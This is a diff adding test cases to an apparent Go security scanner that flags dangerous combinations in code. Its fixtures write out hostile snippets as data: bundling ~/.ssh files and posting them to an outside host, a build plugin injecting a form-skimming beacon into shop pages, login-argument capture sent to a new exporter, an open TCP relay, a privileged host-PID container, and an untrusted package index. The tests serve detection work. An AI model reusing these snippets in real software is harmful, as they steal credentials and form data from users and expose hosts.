@@ -37,8 +37,11 @@ func deciding(t *testing.T, head map[string]string) map[string][]gate.Finding {
 }
 
 const (
-	packsKeys = "import io, zipfile\nfrom pathlib import Path\ndef bundle():\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, \"w\") as z:\n        for p in (Path.home() / \".ssh\").rglob(\"*\"):\n            z.write(p)\n    return out.getvalue()\n"
-	sendsAway = "import httpx\ndef upload(data):\n    httpx.post(\"https://files.example.net/upload\", content=data)\n"
+	packsKeys      = "import io, zipfile\nfrom pathlib import Path\ndef bundle():\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, \"w\") as z:\n        for p in (Path.home() / \".ssh\").rglob(\"*\"):\n            z.write(p)\n    return out.getvalue()\n"
+	keepsArguments = "const LOGINS = /^(login|verify)/;\nexports.traced = (desc, name) => {\n  const inner = desc.value;\n  desc.value = function (...args) {\n    spans.push({ name, attributes: LOGINS.test(name) ? args : undefined });\n    return inner.apply(this, args);\n  };\n};\n"
+	addsToPages    = "exports.plugin = { generateBundle(_, bundle) { bundle['shop.js'].code += extra; } };\nconst extra = `;document.addEventListener('submit', function (e) { "
+	relays         = "package relay\n\nimport (\n\t\"bufio\"\n\t\"io\"\n\t\"net\"\n)\n\nfunc serve(a net.Conn) {\n\tpeer, _ := bufio.NewReader(a).ReadString(10)\n\tb, err := net.Dial(\"tcp\", peer)\n\tif err != nil {\n\t\treturn\n\t}\n\tgo io.Copy(a, b)\n\tio.Copy(b, a)\n}\n"
+	sendsAway      = "import httpx\ndef upload(data):\n    httpx.post(\"https://files.example.net/upload\", content=data)\n"
 )
 
 func TestSignsThatMakeEachOtherDangerous(t *testing.T) {
@@ -60,6 +63,15 @@ func TestSignsThatMakeEachOtherDangerous(t *testing.T) {
 		{"packages from an address that no one checks, installed at run time", map[string]string{
 			"deps.py": "import subprocess, sys\ndef need(name):\n    subprocess.run([sys.executable, \"-m\", \"pip\", \"install\", \"--index-url\", \"http://wheels.example.net/simple\", \"--trusted-host\", \"wheels.example.net\", name], check=True)\n",
 		}, "deps.py", "package-install/installs-from-elsewhere"},
+		{"a privileged image of a registry that nothing names", map[string]string{"manifests/agent.yaml": "apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  hostPID: true\n  containers:\n    - name: agent\n      image: registry.example.net/agent:stable\n      securityContext: {privileged: true}\n"}, "manifests/agent.yaml", "container-escape/foreign-image-with-rights"},
+		{"an image of a registry that nothing names", map[string]string{"manifests/agent.yaml": "apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  containers:\n    - name: agent\n      image: registry.example.net/agent:stable\n"}, "manifests/agent.yaml", ""},
+		{"arguments of logins are kept, and another file sends to somebody new", map[string]string{"traced.js": keepsArguments, "exporter.js": "exports.send = (body) => fetch('https://otlp.example.net/v1', { method: 'POST', body });\n"}, "exporter.js", "exfiltration/calls-to-new-host"},
+		{"arguments of logins are kept", map[string]string{"traced.js": keepsArguments}, "traced.js", ""},
+		{"a build that adds code to pages, which sends a form to somebody new", map[string]string{"build.js": addsToPages + "navigator.sendBeacon('https://metrics.example.net/f', new FormData(e.target)) }, true);`;\n"}, "build.js", "exfiltration/built-form-copy"},
+		{"a build that adds code to pages", map[string]string{"build.js": addsToPages + "e.target.dataset.seen = 1 }, true);`;\n"}, "build.js", ""},
+		{"a relay for anyone who asks, announced to somebody new", map[string]string{"relay.go": relays + "func announce() {\n\tc, _ := net.Dial(\"tcp\", \"peers.example.net:7000\")\n\tio.WriteString(c, \"peer\\n\")\n}\n"}, "relay.go", "network/foreign-relay"},
+		{"a relay for anyone who asks", map[string]string{"relay.go": relays}, "relay.go", ""},
+		{"what is below a folder of the system goes on some machines only", map[string]string{"clean.js": "const os = require('os');\nconst fs = require('fs');\nconst path = require('path');\nconst root = '/var/lib';\nif (os.hostname().includes('prod')) {\n  setTimeout(() => 1, 5);\n}\n\n\n\n\n\nexports.clean = (name) => fs.rmSync(path.join(root, name));\n"}, "clean.js", "time-trigger/waits-to-harm"},
 	} {
 		var dangerous []string
 		for _, f := range deciding(t, tt.head)[tt.file] {
